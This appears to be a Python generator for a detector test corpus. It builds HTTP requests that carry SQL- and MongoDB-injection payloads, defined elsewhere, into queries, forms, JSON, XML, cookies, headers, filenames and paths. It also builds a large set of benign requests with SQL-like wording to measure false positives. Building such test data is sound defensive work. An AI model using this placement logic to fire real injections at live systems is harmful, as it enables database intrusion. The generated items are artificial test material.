OUR_NAMES = ["q", "name", "email", "sort", "filter", "id"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _ctrl(s: str) -> bool:
    return any(ord(c) < 0x20 for c in s)


def _uescape(s: str) -> str:
    """s as a JSON string literal with every character but letters, digits and spaces as a \\uXXXX escape."""
    return "".join(c if c.isascii() and (c.isalnum() or c == " ") else f"\\u{ord(c):04x}" for c in s)


def _hdr(extra: dict[str, str], uri: str = "/api/users?page=1") -> dict[str, Any]:
    rec = _get(uri)
    return {**rec, "headers": {**rec["headers"], **extra}}


def _multipart(fields: list[tuple[str, str]], file_name: str | None) -> dict[str, Any]:
    parts = []
    for k, v in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
    if file_name is not None:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{file_name}\"\r\n"
                     "Content-Type: text/plain\r\n\r\nhello\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": "/admin/users/search", "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _json_value(sub: str, payload: str) -> Any:
    """A MongoDB operator document goes in as JSON itself, as a Node API receives it; anything else as a string."""
    if sub == "mongodb-injection" and payload.startswith("{"):
        try:
            return json.loads(payload)
        except ValueError:
            return payload
    return payload


def _ours(place: str, i: int, sub: str, p: str) -> dict[str, Any]:
    name = OUR_NAMES[i % len(OUR_NAMES)]
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: _json_value(sub, p)})
    if place == "json-uescape":
        rec = _json("/api/users", {})
        return {**rec, "body": '{"email": "a@example.org", "' + name + '": "' + _uescape(p) + '"}'}
    if place == "cookie":
        return _hdr({"Cookie": "session=abc123; " + name + "=" + urllib.parse.quote(p, safe="'()*,!@:/")})
    if place == "header:User-Agent":
        return _hdr({"User-Agent": p})
    if place == "header:Referer":
        return _hdr({"Referer": p})
    if place == "header:X-Filter":
        return _hdr({"X-Filter": p})
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(p, safe="[]$") + "=1&page=1")
    if place == "xml":
        rec = _json("/api/users", {})
        body = f'<?xml version="1.0"?><user><name>{xml_escape(p)}</name><email>a@example.org</email></user>'
        return {**rec, "body": body, "headers": {**rec["headers"], "Content-Type": "application/xml"}}
    if place == "multipart-field":
        return _multipart([("csrf_token", "t0k3n"), (name, p)], None)
    if place == "multipart-filename":
        return _multipart([("csrf_token", "t0k3n"), ("q", "avatar")], p)
    # path
    return _get("/api/users/" + urllib.parse.quote(p, safe=""))


def _rs(place: str, i: int, sub: str, p: str) -> dict[str, Any]:
    name = RS_NAMES[i % len(RS_NAMES)]
    path = RS_PATHS[i % len(RS_PATHS)]
    post = RS_POST_PATHS[i % len(RS_POST_PATHS)]
    if place == "rs-query":
        return _get(path + "?" + name + "=" + urllib.parse.quote(p, safe="'(),*!:@$"))
    if place == "rs-param-name":
        return _get(path + "?" + urllib.parse.quote(p, safe="[]$") + "=1")
    if place == "rs-form":
        return _form(post, [(name, p)])
    if place == "rs-json":
        return _json(post, {name: _json_value(sub, p)})
    if place == "rs-json-uescape":
        rec = _json(post, {})
        return {**rec, "body": '{"' + name + '": "' + _uescape(p) + '"}'}
    if place == "rs-xml":
        rec = _json(post, {})
        body = f"<root><{name}>{xml_escape(p)}</{name}></root>"
        return {**rec, "body": body, "headers": {**rec["headers"], "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        rec = _form(post, [])
        return {**rec, "body": p}
    if place == "rs-header:User-Agent":
        return _hdr({"User-Agent": p}, path)
    if place == "rs-header:Referer":
        return _hdr({"Referer": p}, path)
    if place == "rs-header:X-Custom":
        return _hdr({"X-Custom-Header": p}, path)
    # rs-cookie
    return _hdr({"Cookie": name + "=" + urllib.parse.quote(p, safe="'()*,!@:/")}, path)


def _fit(place: str, p: str) -> str:
    """The placement a payload can take: no control characters in headers or file names, no quote in a file
    name (such a payload goes to the query string instead)."""
    base = place[3:] if place.startswith("rs-") else place
    if base.startswith(("header:", "cookie")) and _ctrl(p):
        return "rs-query" if place.startswith("rs-") else "query"
    if place == "multipart-filename" and (_ctrl(p) or '"' in p):
        return "multipart-field"
    return place


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for sub, payloads in SUBS.items():
        for p in payloads:
            if p in PARAM_NAME_PAYLOADS:
                places = ["param-name", "rs-param-name"]
            else:
                places = [_fit(OURS[i % len(OURS)], p), _fit(RS[(i * 5 + 2) % len(RS)], p)]
            for place in places:
                rec = _rs(place, i, sub, p) if place.startswith("rs-") else _ours(place, i, sub, p)
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": p}
            i += 1


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words as people type them.

SLACK_TEXTS = [
    "can someone run a quick select on the orders table for last week? I need the count only",
    "the UNION of both lists is in the sheet, tab 2",
    "I'll sleep on it and decide tomorrow",
    "benchmark results for the new laptop are up, 20% faster compile times",
    "don't forget to drop the old staging database after the migration",
    "merge conflict on main again, who touched the schema file?",
    "please execute the runbook step 4 before the deploy",
    "match against Liverpool is at 8pm, who's coming to the pub?",
    "we need to update the README and delete the stale branches",
    "the insert into the audit log happens in the repository layer",
    "let's order by created_at desc in the admin list",
    "having a coffee, back in 10",
    "table tennis tournament on Friday, sign up in #social",
    "Seán O'Connor joined the team today, say hi!",
    "it's O'Reilly's book, not O'Reilley's",
    "the character set of the export is UTF-8, not latin1",
    "I'm waiting for the delay on the train to clear",
    "the shutdown of the old VPN is scheduled for next month",
    "who's on call this weekend? I can't do Saturday",
    "mongo vs postgres debate again... let's not",
    "the stored procedure for monthly invoices is documented in Confluence",
    "create table statements are generated by the migration tool, don't hand-write them",
    "alter the agenda: the retro moves to 3pm",
    "we're benchmarking sleep quality trackers for the wellness program",
    "the info on the schema change is in the ticket",
    "`git rebase -i` then squash, please",
    "use `SELECT 1` as the health check query, it's cheap",
    "the hex value for our brand blue is #1f6feb",
    "the comment thread -- the one about pricing -- got long",
    "C# and F# folks, the .NET meetup is tonight",
    "1 + 1 = 2, unless it's a floating point bug",
    "price went from $20 to $25 (25% up); finance is aware",
    "I mean, where else would you put it?",
    "admin panel is down for 5 minutes, maintenance",
    "the user's guide says to click 'Save' and then 'Close'",
    "is this 'or' an inclusive or, or exclusive?",
    "the pg_dump backup finished at 03:12",
    "sleep(5) in a test is a smell, use a fake clock",
    "the benchmark() helper in our perf suite takes a callable",
    "sys.databases lists everything on the test server, ask DBA for access",
    "information schema views are handy for the data catalog project",
    "the MERGE statement in the ETL job is slow on big batches",
    "full text search uses MATCH ... AGAINST in the old MySQL version",
    "execute immediate is used in the Oracle package, legacy code",
    "the xp_cmdshell setting is disabled on all servers, audited last week",
    "we shut down the legacy box with `shutdown -h now` yesterday",
    "the regexp for emails is in validators.py",
    "sounds like a plan!",
    "not between you and me, it's public now",
    "is null the same as empty in that API? no, null means unknown",
    "the xor trick for swapping values is cute but unreadable",
    "I like this design between the two options",
    "the case when nothing matches falls back to default",
    "if then else logic belongs in the service, not the view",
    "the collation of the reporting db is utf8mb4_unicode_ci",
    "goto considered harmful, still true",
    "the kids' table at the party needs two more chairs",
    "Let's meet at Union Square at noon",
    "We're in room 1-2-3 today, the big one",
    "new hire: D'Angelo from the Dublin office",
    "what's the ETA on the ticket? 'soon' is not an answer :)",
    "just drop me a line when you're done",
    "the truncate button in the log viewer clears only the view",
    "rename the channel to #team-data please",
    "the load file dialog accepts CSV and XLSX",
    "outfile? no, the export lands in the bucket",
    "I'll grant you that, the old UI was faster",
    "the declare-and-assign style is preferred in Go",
    "the cursor in the editor jumps when I paste",
    "Happy Friday! -- the social committee",
    "/* TODO */ markers should become tickets",
    "use -- for long options, e.g. --verbose",
    "see #incident-42 for the timeline",
    "the JSON field `role` is lowercase everywhere now",
    "backticks in markdown render as code, like `this`",
    "it's 4294967296 bytes, i.e. 4 GiB exactly",
    "the max int is 2147483647, watch out for overflow in the counter",
    "the value was 1e309 which overflows to infinity in JS",
    "hex 0x1F is 31 in decimal",
    "the concat of first and last name is the display name",
    "ASCII art in commit messages is not allowed",
    "char limit for titles is 80",
    "version 2.3 is out; update the changelog",
    "the user() function in our template language prints the login",
    "the database name for staging is app_staging",
    "length of the queue hit 10k at peak",
    "substring search is case-insensitive now",
    "floor plan for the new office is attached",
    "random seed is fixed in tests",
    "pi day party on 3/14!",
    "the sleep study results are in, interesting stuff",
    "left or right? left, then the second door",
    "lower the volume in the meeting room please",
    "the round table discussion starts at 2",
    "the password reset email template needs an update",
    "the login page shows 'invalid' for both user and pass errors, on purpose",
    "select all, copy, paste into the doc",
    "union rep meeting moved to Thursday",
    "having fun at the offsite?",
    "drop by my desk if you have questions",
    "the exec team signed off on the budget",
    "the shell script runs nightly via cron",
    "where is the list of holidays for 2025?",
    "from now on, standup is at 9:45",
    "into the weekend we go!",
    "waitlist for the workshop is full",
    "the delay was 5 minutes, not 50",
    "1=1 in the dashboard means 'all rows', it's a filter placeholder",
    "'sup everyone",
    "he said 'no' -- twice",
    "it's a 50/50 chance",
    "a && b || c reads badly, add parentheses",
    "the like button counts are off by one",
    "in (the) meantime, use the old link",
    "top 10 customers by revenue are on the board",
    "we count(*) the rows daily for the KPI",
    "the alter ego of our mascot is a raccoon",
    "charset detection failed on that CSV, re-save it as UTF-8",
    "procedure for expense reports: photo, upload, approve",
    "functions in the utils module need docstrings",
    "the trigger for the alert is 5 errors in a minute",
    "db.users collection has 2M docs in mongo now",
    "the $ne operator in our query builder is wrapped, don't pass raw objects",
    "the where clause got long, split it into CTEs",
    "JSON_EXTRACT is fine for reporting queries but slow in the API",
    "scientific notation like 1.5e3 shows up in the CSV export",
    "the split query approach makes the login page two steps",
]

SEARCHES = [
    "O'Brien", "O'Connor", "D'Angelo", "Mc'Donald", "N'Golo", "Jean-Luc d'Arc", "Ng'ang'a",
    "union station", "select committee", "sleep apnea", "benchmark report 2024", "drop shipping",
    "table tennis", "order by date", "match against arsenal", "merge requests", "execute order",
    "insert coin", "update profile", "delete account", "rock & roll", "Q&A", "C# developer", "#hashtag",
    "50% off", "AT&T", "Johnson & Johnson", "R&D team", "what's new", "it's complicated", "rock 'n' roll",
    "don't panic", "shutdown procedure", "waitfor", "pg admin", "mongo db training", "case study",
    "if you can", "charset", "alter ego", "information desk", "master bedroom", "character set", "hex key",
    "backtick", "comment section", "like a boss", "between us", "not null", "true or false", "1 or 2 rooms",
    "select all", "left join", "full text", "sleep well", "bench mark", "trunk or treat",
    "union jack", "grant application", "declare income", "cursor pointer", "create account", "load file",
    "procedure manual", "function room", "trigger warning", "schema therapy", "root cause", "admin guide",
    "user manual", "login help", "password reset", "email a friend", "1-800-FLOWERS", "5'11\"",
    "12\" pizza", "6' 2\" tall", "John \"Jack\" Smith", "the \"best\" deal", "fish & chips",
    "x=1", "a+b", "1+1", "2-1", "3*4", "10/2", "50-50", "24/7", "9-5", "C++", "F#", "ASP.NET", "node.js",
    "SQL Server 2019", "MySQL 8", "PostgreSQL 16", "Oracle 19c", "SQLite", "MongoDB Atlas",
    "sleep 8 hours", "execute immediately", "merge into one", "match point", "against all odds",
    "drop the mic", "table for two", "order by phone", "having trouble", "where to eat", "from scratch",
    "into the wild", "exec summary", "version 2.0", "database admin", "schema.org", "info@example.com",
    "sales@example.co.uk", "+1 (555) 010-2020", "ext. 42", "PO Box 12", "Apt #4B", "Suite 100 & 101",
    "St. John's", "King's Cross", "L'Oréal", "Côte d'Ivoire", "São Paulo", "Zürich", "Łódź", "Ōsaka",
    "naïve café", "résumé", "piñata", "François", "Björk", "Dvořák", "İstanbul",
    "-- no preference --", "n/a", "(none)", "[draft]", "{placeholder}", "<unknown>", "~/Documents",
    "4294967296", "2147483647", "3.14159", "1e10", "0x1F", "#ff0000", "@channel", "$100", "100%",
]

PROFILES = [
    ("Seán O'Connor", "12 Union Street, Apt #4, Cork", "Select Comfort Ltd."),
    ("Mary-Kate D'Souza", "7 Match Lane, Leeds", "Merge & Partners"),
    ("Jean-Luc Dupont", "3 rue de l'Union, Lyon", "Exécutif SARL"),
    ("Aoife Ní Bhriain", "Flat 2/1, 15 Drop Street, Glasgow", "Benchmark Analytics"),
    ("O'Neil, Patrick", "PO Box 1, Sleepy Hollow, NY", "Table & Chair Co."),
    ("Zoë Smith-Jones", "1-3 Alter Road, Bristol", "Order By Design"),
    ("Dr. Ana María López", "Calle Mayor 10, 2º izq., Madrid", "Having Fun S.L."),
    ("Renée O'Hara", "Unit 5, Shutdown Industrial Estate", "Execute Logistics"),
    ("Kwame Mensah", "Union Ave & 3rd St", "Insert Media"),
    ("Li Wei (李伟)", "88 Delete Rd #12-01, Singapore", "Update Tech Pte"),
    ("Siobhán Mac Giolla", "The Old Mill, Where-on-Sea", "From Scratch Bakery"),
    ("Priya Nair", "22B Baker St (rear)", "Case & When Legal"),
    ("Marc-André Lefèvre", "45 av. Match, Québec", "Against The Grain Inc."),
    ("Yusuf Al-Amin", "Building 3, Block C; Dubai", "Sleep Well LLC"),
    ("Ben \"Benny\" Cohen", "10 King's Road, London", "Grant & Declare"),
    ("Chloé Martin", "2 bis, Impasse des Lilas", "L'Atelier Charset"),
    ("Tom O'Malley Jr.", "100 Main St., Ste. 200", "Hex & Co"),
    ("Jörg Müller", "Hauptstr. 5/7, Köln", "Cursor GmbH"),
    ("Fiona McDonald-O'Brien", "Ardmore, Co. Waterford", "Trigger Happy Films"),
    ("Sam Lee", "Apt 9 - Floor 3, 1=1 Plaza", "Exec Search"),
    ("Hannah Kim", "5th Ave #500", "Procedure Health"),
    ("Ahmed Hassan", "Nile Corniche, Tower 2", "Function Fitness"),
    ("Isabel dos Santos", "Rua da União 77", "Mongo Tours"),
    ("Élodie Roux", "La Défense - Tour A", "Load File Studio"),
    ("Raj Patel", "Flat 3, 21 Drop Lane", "Like Minded Ltd"),
    ("Katie O'Leary", "Orchard House, Merge Green", "Between Friends Café"),
    ("Niall O'Donnell", "14 Wait-For-Me Close", "Delay Repairs"),
    ("Ana Lucía Gómez", "Av. Siempre Viva 742", "Select Foods"),
    ("Grace Ng", "Block 5 #05-10", "Having It All Events"),
    ("Oluwaseun Adeyemi", "Plot 7, Union Estate", "Info Schema Consulting"),
]

PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://sqlite.org/lang_select.html",
    "https://en.wikipedia.org/wiki/Select_(SQL)",
    "https://en.wikipedia.org/wiki/Union_Station_(Washington,_D.C.)",
    "https://www.sleepfoundation.org/how-sleep-works",
    "https://example.com/blog/2024/05/benchmark-results?utm_source=slack&utm_medium=chat",
    "https://news.example.org/sport/match-report-union-berlin-vs-bayern",
    "https://shop.example.com/products/table-lamp?color=oak&size=m",
    "https://github.com/acme/app/pull/1234#discussion_r1",
    "https://example.com/search?q=o%27brien&page=2",
    "https://www.example.co.uk/menu#fish-&-chips",
    "https://docs.example.com/guide/merge-conflicts/",
    "https://status.example.com/incidents/scheduled-shutdown",
    "https://example.com/careers/database-administrator",
    "https://maps.example.com/?ll=51.5,-0.12&q=King%27s+Cross",
]

PROSE = [
    "Please select the option that best describes your role and click Continue.",
    "The credit union will merge with its neighbour next year, members will vote in March.",
    "Our sleep clinic runs a benchmark study on shift workers; results in the annual report.",
    "Drop-off is between 8 and 9; pick-up at 5, or by arrangement.",
    "I'd like to update my delivery address: it's 12 O'Connell Street, not 21.",
    "The match against the league leaders was postponed because of the weather.",
    "Please execute the attached agreement and return it by Friday.",
    "Order by phone or online; delivery takes 3-5 days.",
    "Having read the terms, I agree to them.",
    "We're waiting for a delay notice from the airline -- no news yet.",
    "The table below shows the results, ordered by date.",
    "The character set on the form was wrong, so my name (Zoë) showed up garbled.",
    "Insert the card, then select your language.",
    "Delete my account and all data, please; I'm moving to another provider.",
    "From 1 May, the office is closed on Mondays.",
    "Is 1 = 1 in your pricing example a typo? It says 1 seat = 1 licence.",
    "He said: 'we'll see' -- and left.",
    "My handle is @sean_oc and my site is sean.example.ie.",
    "The schema of the form changed; some fields moved.",
    "Can you grant access to the shared drive for the new hire?",
    "The procedure is simple: fill in, sign, send.",
    "The function of the committee is advisory only.",
    "Please create an account for my colleague, Ms. N'Diaye.",
    "Alter the hem by 2 cm, please.",
    "The shutdown of line 3 is planned for the holidays.",
    "Union dues are deducted monthly.",
    "I'm between jobs, available from next week.",
    "Like the previous year, the event is free.",
    "Not null and void, the contract still stands.",
    "It's either this or that, not both.",
    "Case in point: the release slipped twice.",
    "If the delay exceeds 2 hours, you get a voucher.",
    "The hex nut size is M8; the bolt is 40 mm.",
    "Back-tick, tick, apostrophe: typography matters.",
    "The comment you left (#3) was helpful.",
    "Dinner for 2 @ 7pm, table by the window.",
    "Load the file, check the totals, then sign off.",
    "The cursor blinks but nothing types.",
    "The trigger for a refund is a delivery over 10 days late.",
    "Version 4294967296 is not a real version, please check the form.",
]


def _searches() -> Iterator[dict[str, Any]]:
    for k, s in enumerate(SEARCHES):
        if k % 2 == 0:
            yield _get(_query("/api/users", [("q", s), ("page", "1")]))
        else:
            yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)])


def _profiles() -> Iterator[dict[str, Any]]:
    for k, (name, address, company) in enumerate(PROFILES):
        yield _json("/api/users", {"name": name, "email": f"user{k}@example.org", "address": address,
                                   "company": company})
        yield _json(f"/api/users/{100 + k}", {"display_name": name, "company": company, "title": "Manager"})
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", name), ("company", company)])


def _comments() -> Iterator[dict[str, Any]]:
    """Chat lines and prose left as notes on a user's record, the way the admin panel's API saves them."""
    for k, text in enumerate(SLACK_TEXTS + PROSE):
        yield _json(f"/api/users/{200 + k}/notes", {"note": text, "visibility": "team"})


def _json_searches() -> Iterator[dict[str, Any]]:
    """The searches as the single-page app sends them: a JSON filter, and the search page as the Referer."""
    for k, s in enumerate(SEARCHES):
        rec = _json("/api/users/search", {"query": s, "limit": 20, "offset": 20 * (k % 3)})
        yield {**rec, "headers": {**rec["headers"], "Referer": "https://app.example.com/admin/users?tab=search"}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered(_searches(), f"{NAME}-search", n, "query")
    n = yield from numbered(_profiles(), f"{NAME}-profile", n, "json")
    # searches once more, the other way round (query <-> admin form)
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) if k % 2 == 0
                             else _get(_query("/api/users", [("q", s), ("page", "1")]))
                             for k, s in enumerate(SEARCHES)), f"{NAME}-search", n, "form")
    n = yield from numbered(_comments(), f"{NAME}-comment", n, "json")
    yield from numbered(_json_searches(), f"{NAME}-search", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
